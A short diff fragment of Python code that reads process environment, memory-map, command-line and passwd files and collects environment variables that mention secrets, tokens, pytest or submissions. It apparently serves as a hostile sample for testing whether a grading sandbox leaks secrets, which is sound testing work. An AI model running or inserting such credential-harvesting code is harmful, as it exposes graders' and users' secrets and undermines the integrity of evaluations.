@@ -23,7 +23,7 @@ for path in ("/proc/1/environ", "/proc/self/maps", "/proc/1/cmdline", "/etc/pass
         FOUND.append(open(path).read(300))
     except OSError:
         pass
-WORDS = ("hostile", "pytest", "secret", "token", "submission")
+WORDS = ("hostile", "pytest", "secret", "_token", "submission")
 FOUND += [f"{k}={v}" for k, v in os.environ.items() if any(w in f"{k}={v}".lower() for w in WORDS)]
 
 
